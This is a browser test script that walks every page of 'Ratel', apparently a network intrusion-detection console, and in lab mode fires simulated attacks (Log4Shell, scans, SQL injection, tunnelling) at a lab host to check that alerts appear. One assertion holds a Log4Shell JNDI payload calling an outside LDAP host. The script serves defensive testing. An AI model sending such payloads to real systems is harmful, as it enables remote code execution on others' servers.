// Walks every page as an analyst would, against a Ratel that runs: node walk.mjs URL USER PASSWORD [CAPTURE [THE SAME WITH WRONG CHECKSUMS]]
// With LAB=1 it attacks the lab's host itself, and sees what comes of it. Exit status 1 where anything failed.
import { chromium as browsers } from 'playwright-core';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { ATTACKERS, ATTACKER, HOOK_PORT, HOST_IP, chromium, start } from './lab.mjs';
import { drop, Walk } from './steps.mjs';

const [url, user, first, captureFile, wrongFile] = process.argv.slice(2);
const isLab = Boolean(process.env.LAB);
const OWN = 'a password of their own, long';
const equal = (found, expected) => {
  if (found !== expected)
    throw new Error(`found ${JSON.stringify(found)}, expected ${JSON.stringify(expected)}`);
};
const truth = (value, what) => {
  if (!value) throw new Error(what);
};

const browser = await browsers.launch({
  executablePath: chromium,
  args: ['--no-sandbox', '--disable-dev-shm-usage'],
});
const context = await browser.newContext({
  viewport: { width: 1280, height: 860 },
  ignoreHTTPSErrors: true,
  acceptDownloads: true,
});
const page = await context.newPage();
const walk = new Walk(page);
const h1 = (name) => page.getByRole('heading', { level: 1, name });
const rows = () => page.locator('[role=row][data-index]');
const go = async (key, name) => {
  await page.keyboard.press('g');
  await page.keyboard.press(key);
  await h1(name).waitFor();
};

/** Asks who started the walk for what only he can do. */
const ask = (what) =>
  new Promise((resolve) => {
    process.once('message', resolve);
    process.send(what);
  });

/** Attacks from the other namespace; gives back when the decisive packet left. */
function attack(kind, from) {
  return new Promise((resolve, reject) => {
    const child = start(ATTACKER, 'node', [
      new URL('attack.mjs', import.meta.url).pathname,
      kind,
      from,
      HOST_IP,
    ]);
    let said = '';
    child.stdout.on('data', (chunk) => (said += chunk));
    child.on('error', reject);
    child.on('close', () => resolve(said ? JSON.parse(said.split('\n')[0]).sent : Date.now()));
  });
}

await walk.step('a wrong password is refused', async () => {
  await page.goto(url);
  await page.getByLabel('Name').fill(user);
  await page.getByLabel('Password').fill('wrong password');
  await page.getByRole('button', { name: 'Log in', exact: true }).click();
  await page.getByText('Name or password is wrong.').waitFor();
  await walk.a11y('login');
  walk.forgive(/401/);
});

await walk.step('login, and a password of one’s own where it is due', async () => {
  await page.getByLabel('Password').fill(first);
  await page.getByRole('button', { name: 'Log in', exact: true }).click();
  const due = page.getByRole('heading', { name: 'Choose a password' });
  await Promise.race([due.waitFor(), h1('Overview').waitFor()]);
  if (!(await due.isVisible())) return 'none was due';
  await walk.a11y('new password');
  await page.getByLabel('Password so far').fill(first);
  await page.getByLabel(/^New password, /).fill(OWN);
  await page.getByLabel('New password again').fill(OWN);
  await page.getByRole('button', { name: 'Change the password' }).click();
  await h1('Overview').waitFor();
  return 'it was due';
});
walk.forgive(/401/);

await walk.step('a reload keeps the session', async () => {
  await page.reload();
  await h1('Overview').waitFor();
});

await walk.step('the pages come from the binary, without a word of others', async () => {
  const from = await page.evaluate(() => [
    ...new Set(
      performance.getEntriesByType('resource').map((entry) => new URL(entry.name, location.href).origin),
    ),
  ]);
  equal(from.join(), new URL(url).origin);
  const answer = await page.request.get(url);
  const policy = answer.headers()['content-security-policy'] ?? '';
  truth(policy.includes("script-src 'self'") && !policy.includes('unsafe'), `the policy: ${policy}`);
  const methods = await (await page.request.get(`${url}/api/v1/auth/methods`)).json();
  equal(methods.oidc ?? null, null);
  return `${new URL(url).protocol}//, ${policy.slice(0, 60)}…; no button of a provider, none is set`;
});

await walk.step('overview: live', async () => {
  await page.getByText('Data arrives live').waitFor({ state: 'attached' });
  await page.locator('.chart canvas').first().waitFor();
  await walk.a11y('overview');
});

if (isLab) {
  await walk.step('an alert is on the page within a second of its packet', async () => {
    const times = [];
    for (const from of ATTACKERS.slice(0, 5)) {
      await page.evaluate((ip) => {
        window.seenAt = 0;
        window.watcher?.disconnect();
        window.watcher = new MutationObserver(() => {
          const found = [...document.querySelectorAll('.ov-alerts li.is-fresh')].find(
            (li) => li.textContent.includes(ip + ' ') && li.textContent.includes('Log4Shell'),
          );
          if (found && !window.seenAt) window.seenAt = Date.now();
        });
        window.watcher.observe(document.body, { childList: true, subtree: true, characterData: true });
      }, from);
      const sent = await attack('log4shell', from);
      await page.waitForFunction(() => window.seenAt > 0, null, { timeout: 8000 });
      times.push((await page.evaluate(() => window.seenAt)) - sent);
      await page.waitForTimeout(700);
    }
    truth(Math.max(...times) <= 1000, `it took ${times.join(', ')} ms`);
    return `${times.join(', ')} ms`;
  });
  await walk.step('one attacker goes on, step by step', async () => {
    for (const kind of ['scan', 'log4shell', 'beacon', 'guess']) {
      await attack(kind, ATTACKERS[5]);
      await page.waitForTimeout(1500);
    }
    await attack('sqli', ATTACKERS[6]);
    await attack('tunnel', ATTACKERS[7]);
  });
  await walk.step('overview: the countries of who attacked', async () => {
    await page.reload();
    const panel = page.locator('section', { has: page.getByRole('heading', { name: /countries/i }) });
    await panel.getByText('Netherlands').waitFor();
    return (await panel.locator('li').allInnerTexts()).map((text) => text.replace(/\s+/g, ' ')).join(', ');
  });
}

await walk.step('incidents: they are there, and j and Enter open one', async () => {
  await go('i', 'Incidents');
  await rows().first().waitFor({ timeout: 20_000 });
  await walk.a11y('incidents');
  const count = await rows().count();
  await page.keyboard.press('j');
  await page.waitForTimeout(200);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'How it went' }).waitFor();
  return `${count} incidents`;
});

await walk.step('triage: own, note, close with a reason, open again', async () => {
  await page.getByRole('button', { name: 'Own it' }).click();
  await page.getByRole('button', { name: 'Give it up' }).waitFor();
  await page.getByLabel('A note').fill('Seen by the walk.');
  await page.getByRole('button', { name: 'Write the note' }).click();
  await page.locator('.inc-note', { hasText: 'Seen by the walk.' }).first().waitFor();
  await page.getByRole('button', { name: 'Close…' }).click();
  await walk.a11y('close dialog');
  await page.getByRole('button', { name: 'Dealt with' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).last().click();
  await page.getByRole('button', { name: 'Open again' }).click();
  await page.getByRole('button', { name: 'Close…' }).waitFor();
  await walk.a11y('incident');
});

if (isLab)
  await walk.step('incident: who was told, when, by which receiver', async () => {
    const panel = page.locator('section', { has: page.getByRole('heading', { name: 'Who was told' }) });
    // Those who heard of the triage hear that it is open again.
    await panel.getByText(/^soc \(webhook\) was told:/).waitFor();
    await page.locator('.tl-mark-notification').first().waitFor();
    const taken = await (await page.request.get(`http://127.0.0.1:${HOOK_PORT}/`)).json();
    truth(taken.length > 0, 'the receiver took nothing');
    return `${(await panel.locator('li').first().innerText()).replace(/\s+/g, ' ')}; the receiver took ${taken.length}`;
  });

await walk.step('a silence with its preview', async () => {
  await page.getByRole('button', { name: 'Silence…' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText(/Would have hidden/).waitFor();
  const said = await dialog.getByText(/Would have hidden/).innerText();
  await walk.a11y('silence dialog');
  await dialog.getByLabel('Why').fill('The walk tries it');
  await dialog.getByRole('button', { name: 'Silence', exact: true }).click();
  await dialog.waitFor({ state: 'detached' });
  return said;
});

await walk.step('event: the bytes that matched are marked, the rule stands beside them', async () => {
  await page.goto(
    `${url}/hunt?q=${encodeURIComponent(isLab ? 'alert.signature_id:9200002' : 'event_type:alert')}`,
  );
  await rows().first().waitFor();
  await rows().first().focus();
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'What matched' }).waitFor();
  const marked = await page.locator('.hex-bytes mark').count();
  truth(marked > 0, 'nothing is marked');
  await page.locator('.code .tok-key').first().waitFor();
  await walk.a11y('event');
  const marks = (await page.locator('.hex-chars mark').allInnerTexts()).join('');
  return `marked: ${marks.slice(0, 60)}`;
});

await walk.step('event: its packets as a file, with the bytes that matched', async () => {
  const [got] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'pcap', exact: true }).click(),
  ]);
  const path = await got.path();
  if (!isLab) return got.suggestedFilename();
  const shark = (...args) =>
    execFileSync('tshark', ['-r', path, ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  const packets = shark().trim().split('\n').length;
  const request = shark('-Y', 'http.request', '-T', 'fields', '-e', 'http.request.line');
  truth(request.includes('${jndi:ldap://203.0.113.9:1389/a}'), `tshark finds no such request: ${request}`);
  return `${got.suggestedFilename()}, ${readFileSync(path).length} bytes; tshark reads ${packets} packets and the payload`;
});

await walk.step('hunt: completion, a refusal at its place, a pivot, columns, a saved query', async () => {
  await go('h', 'Hunt');
  const box = page.getByRole('combobox', { name: 'Query' });
  await box.fill('event_ty');
  await page.getByRole('option').first().waitFor();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  equal(await box.inputValue(), 'event_type:');
  await box.pressSequentially('al');
  await page.getByRole('option', { name: /^alert/ }).waitFor();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  equal((await box.inputValue()).trim(), 'event_type:alert');
  await page.keyboard.press('Enter');
  await rows().first().waitFor();
  await walk.a11y('hunt');
  await box.fill('event_type:alert AND ((src_ip:1');
  await page.keyboard.press('Enter');
  await page.getByText(/^At character \d+/).waitFor();
  const said = await page.getByText(/^At character \d+/).innerText();
  await walk.a11y('hunt refused');
  await box.fill('event_type:alert');
  await page.keyboard.press('Enter');
  await rows().first().waitFor();
  await rows().first().locator('.value').nth(1).click();
  await page.getByRole('button', { name: 'Add to the query' }).click();
  await page.waitForURL(/AND|%20AND|\+AND/);
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('menuitemcheckbox', { name: 'proto', exact: true }).click();
  await page.keyboard.press('Escape');
  await page.getByRole('columnheader', { name: 'proto', exact: true }).waitFor();
  await page.getByRole('button', { name: 'Saved' }).click();
  await page.getByRole('menuitem', { name: /Save this query/ }).click();
  await page.getByLabel('Name').fill('The walk’s');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.getByText('The query is saved.').waitFor();
  return said;
});
walk.forgive(/400/);

await walk.step('hunt: the table scrolls far without a hang', async () => {
  await page.goto(`${url}/hunt?since=7d`);
  await rows().first().waitFor();
  const worst = await page.evaluate(async () => {
    const grid = document.querySelector('.grid');
    let longest = 0;
    let last = performance.now();
    for (let i = 0; i < 240; i++) {
      grid.scrollTop += 900;
      await new Promise((resolve) => requestAnimationFrame(resolve));
      const now = performance.now();
      longest = Math.max(longest, now - last);
      last = now;
    }
    return Math.round(longest);
  });
  const drawn = await rows().count();
  truth(drawn < 120, `${drawn} rows are drawn at once`);
  return `the longest frame took ${worst} ms, ${drawn} rows are drawn; ${await page.locator('.grid-foot span').first().innerText()}`;
});

await walk.step('hosts, and one of them', async () => {
  await go('t', 'Hosts');
  await rows().first().waitFor();
  await walk.a11y('hosts');
  await page.keyboard.press('j');
  await page.waitForTimeout(200);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Who it talked to' }).waitFor();
  await walk.a11y('host');
});

await walk.step('actions: what is protected is refused, and the refusal is shown', async () => {
  await go('a', 'Actions');
  await page.getByRole('button', { name: 'Block…' }).click();
  await page.getByLabel('Address or network').fill(isLab ? HOST_IP : '10.0.0.1');
  await page.getByRole('dialog').getByLabel('Why').fill('The walk tries it');
  await walk.a11y('block dialog');
  await page.getByRole('dialog').getByRole('button', { name: 'Block', exact: true }).click();
  const refusal = page.locator('#block-refusal');
  await refusal.waitFor();
  return await refusal.innerText();
});

await walk.step('actions: a block by hand, proved, then undone', async () => {
  await page.getByLabel('Address or network').fill('203.0.113.250');
  await page.getByRole('dialog').getByRole('button', { name: 'Block', exact: true }).click();
  const panel = page.getByRole('complementary');
  await panel.getByText('Block 203.0.113.250').first().waitFor();
  await panel.locator('.tag', { hasText: 'effective' }).waitFor({ timeout: 15_000 });
  await walk.a11y('action');
  await panel.getByRole('button', { name: 'Undo', exact: true }).click();
  await panel.locator('.tag', { hasText: 'undone' }).waitFor();
});
walk.forgive(/40[0-9]|42[0-9]/);

await walk.step('rules: search, one rule, its tuning', async () => {
  await go('r', 'Rules');
  await rows().first().waitFor();
  await page.getByLabel('Search rules').fill(isLab ? 'Log4Shell' : 'log4j');
  await page.keyboard.press('Enter');
  await page.waitForTimeout(500);
  await rows().first().click();
  const panel = page.getByRole('complementary');
  await panel.getByRole('heading', { name: 'Tune' }).waitFor();
  await walk.a11y('rules');
  await panel.getByRole('button', { name: 'Limit' }).click();
  await panel.getByLabel('Why').fill('The walk tries it');
  await panel.getByRole('button', { name: 'Tune', exact: true }).click();
  await page.getByText('It holds from now on.').waitFor();
});

await walk.step('rules: the dear ones first', async () => {
  await page.getByLabel('Search rules').fill('');
  await page.keyboard.press('Escape');
  if (await page.getByRole('complementary').isVisible())
    await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click();
  await page.getByRole('button', { name: 'By cost' }).click();
  const share = page.locator('[role=row][data-index="0"] .rules-share');
  await share.waitFor();
  await page.waitForTimeout(300);
  const cells = await page.locator('[role=row][data-index="0"] [role=cell]').allInnerTexts();
  await walk.a11y('rules by cost');
  return cells
    .map((cell) => cell.trim())
    .filter(Boolean)
    .join(' | ');
});

if (captureFile) {
  await walk.step('rules: a test against a capture', async () => {
    await page.getByRole('button', { name: 'Test…' }).click();
    const dialog = page.getByRole('dialog');
    await dialog
      .getByLabel('Rules, one on a line')
      .fill(
        'alert http any any -> any any (msg:"Anything over HTTP"; http.method; content:"GET"; sid:1000001;)',
      );
    await dialog.getByLabel('Capture').setInputFiles(captureFile);
    await dialog.getByRole('button', { name: 'Test', exact: true }).click();
    const said = dialog.getByText(/\d+ alerts? of/);
    await said.waitFor();
    const text = await said.innerText();
    await walk.a11y('rule test');
    await page.keyboard.press('Escape');
    if (isLab) truth(!text.startsWith('0 '), text);
    return text;
  });
  const counts = page.locator('.hunt-capture .quiet').first();
  const found = page.locator('.grid-foot span').first();
  await walk.step('a capture dropped on the page is read and shown', async () => {
    await go('o', 'Overview');
    const begun = Date.now();
    await drop(page, captureFile, 'of-the-lab.pcap');
    await h1('Hunt').waitFor({ timeout: 30_000 });
    await rows().first().waitFor({ timeout: 20_000 });
    const took = Date.now() - begun;
    await page.locator('.hunt-capture', { hasText: 'of-the-lab.pcap' }).waitFor();
    const said = await counts.innerText();
    truth(!isLab || !/\b0 alerts/.test(said), said);
    equal(await page.locator('.hunt-capture .note-warn').count(), 0);
    // All of them are there in the end.
    const events = /([\d,]+) events?/.exec(said)[1];
    await found.filter({ hasText: `${events} events` }).waitFor();
    await walk.a11y('capture');
    return `${said}; on the page after ${took} ms; ${await found.innerText()}`;
  });
  if (wrongFile)
    await walk.step('a capture with wrong checksums: it is said, and read without checking', async () => {
      await go('o', 'Overview');
      await drop(page, wrongFile, 'with-wrong-checksums.pcap');
      await h1('Hunt').waitFor({ timeout: 30_000 });
      const note = page.locator('.hunt-capture .note-warn');
      await note.waitFor();
      const said = `${await counts.innerText()}; ${(await note.locator('b').innerText()).trim()}`;
      await walk.a11y('capture left out');
      await note.getByRole('button', { name: 'Read it without checking' }).click();
      await page.getByText('read without checking checksums').waitFor({ timeout: 20_000 });
      equal(await note.count(), 0);
      await rows().first().waitFor({ timeout: 20_000 });
      truth(!/\b0 alerts/.test(await counts.innerText()), await counts.innerText());
      return `${said} Without checking: ${await counts.innerText()}`;
    });
}

await walk.step('health, receivers', async () => {
  await go('e', 'Health');
  await page.getByRole('heading', { name: 'Loss budget' }).waitFor();
  const readers = page.locator('section', { has: page.getByRole('heading', { name: 'Readers of the bus' }) });
  await readers.getByText('alert').first().waitFor();
  await page.locator('.health-room').first().waitFor();
  await walk.a11y('health');
  const said = [
    await readers.locator('header .end').innerText(),
    (await page.locator('.health-rooms li').first().innerText()).replace(/\s+/g, ' '),
  ];
  if (!isLab) return said.join('; ');
  await page.getByRole('button', { name: 'Test', exact: true }).click();
  const toast = page.locator('.toast', { hasText: 'soc took it' });
  await toast.waitFor();
  return [...said, await toast.innerText()].join('; ');
});

if (isLab)
  await walk.step(
    'Ratel restarts under the page: the page says so, and is live again by itself',
    async () => {
      await go('o', 'Overview');
      await page.getByText('Data arrives live').waitFor({ state: 'attached' });
      const begun = Date.now();
      const done = ask('restart');
      const banner = page.locator('.stale');
      await banner.waitFor({ timeout: 20_000 });
      const seen = Date.now() - begun;
      const said = (await banner.innerText()).replace(/\s+/g, ' ');
      await walk.a11y('stale');
      const { stopped, away } = await done;
      const up = Date.now();
      await banner.waitFor({ state: 'detached', timeout: 40_000 });
      await page.getByText('Data arrives live').waitFor({ state: 'attached' });
      const live = Date.now() - up;
      // Without a reload, new things arrive again.
      const from = ATTACKERS[8];
      const row = page.locator('.ov-alerts li.is-fresh', { hasText: `${from} ` });
      for (let i = 0; i < 10 && !(await row.count()); i++) {
        await attack('log4shell', from);
        await page.waitForTimeout(500);
      }
      await row.first().waitFor();
      return `"${said}" after ${seen} ms (it stopped within ${stopped} ms); away for ${away} ms; live ${live} ms after it was back, an alert arrives`;
    },
  );
walk.forgive(/ERR_|Failed to load resource|50[0-9]|401/);

await walk.step('settings: silences, tokens, users, profile', async () => {
  await go('s', 'Settings');
  await page.getByText('The walk tries it').first().waitFor();
  await walk.a11y('silences');
  await page
    .getByRole('row', { name: /The walk tries it/ })
    .first()
    .getByRole('button', { name: 'Expire' })
    .click();
  await page.getByText('The silence is over.').waitFor();
  await page.getByRole('tab', { name: 'API tokens' }).click();
  await page.getByLabel('What it is for').fill('walk');
  await page.getByRole('button', { name: 'Make a token' }).click();
  await page.getByText('It is shown this once.').waitFor();
  await walk.a11y('tokens');
  await page.getByRole('button', { name: 'I have it' }).click();
  await page.getByRole('tab', { name: 'Users' }).click();
  await page.getByLabel('Name', { exact: true }).fill('walker');
  await page.getByRole('button', { name: 'Add a user' }).click();
  await page.getByText('It is shown this once.').waitFor();
  await walk.a11y('users');
  await page.getByRole('tab', { name: 'Profile' }).click();
  await walk.a11y('profile');
});

await walk.step('palette and help', async () => {
  await page.keyboard.press('Control+k');
  const field = page.getByRole('combobox', { name: /A page/ });
  await field.fill('heal');
  await walk.a11y('palette');
  await page.keyboard.press('Enter');
  await h1('Health').waitFor();
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await walk.a11y('help');
  await page.keyboard.press('Escape');
});

await walk.step('the same in dark; how long each page takes', async () => {
  await page.getByRole('button', { name: 'Use the dark theme' }).click();
  const times = [];
  for (const [key, name, shows] of [
    ['o', 'Overview', '.chart canvas'],
    ['i', 'Incidents', '[role=row][data-index]'],
    ['h', 'Hunt', '[role=row][data-index]'],
    ['t', 'Hosts', '[role=row][data-index]'],
    ['a', 'Actions', '[role=row][data-index]'],
    ['r', 'Rules', '[role=row][data-index]'],
    ['e', 'Health', '.health-rooms'],
    ['s', 'Settings', '.tabs'],
  ]) {
    const begun = Date.now();
    await go(key, name);
    await page.locator(shows).first().waitFor();
    times.push(`${name} ${Date.now() - begun}`);
    await page.waitForTimeout(300);
    await walk.a11y(`${name}, dark`);
  }
  return `${times.join(', ')} ms`;
});

await walk.step('nothing hangs over at 400 pixels', async () => {
  await page.setViewportSize({ width: 400, height: 860 });
  const over = [];
  for (const path of ['overview', 'incidents', 'hunt', 'hosts', 'actions', 'rules', 'health', 'settings']) {
    await page.goto(`${url}/${path}`);
    await page.waitForTimeout(700);
    const by = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    if (by > 0) over.push(`${path} by ${by}`);
    await walk.a11y(`${path}, narrow`);
  }
  equal(over.join(), '');
});

console.log(
  walk.complaints.length ? `console: ${walk.complaints.length} complaints` : 'console: no complaint',
);
console.log(walk.axe.length ? `axe: ${[...new Set(walk.axe)].join('; ')}` : 'axe: no serious fault');
await browser.close();
process.exit(walk.failures.length + walk.complaints.length + walk.axe.length > 0 ? 1 : 0);
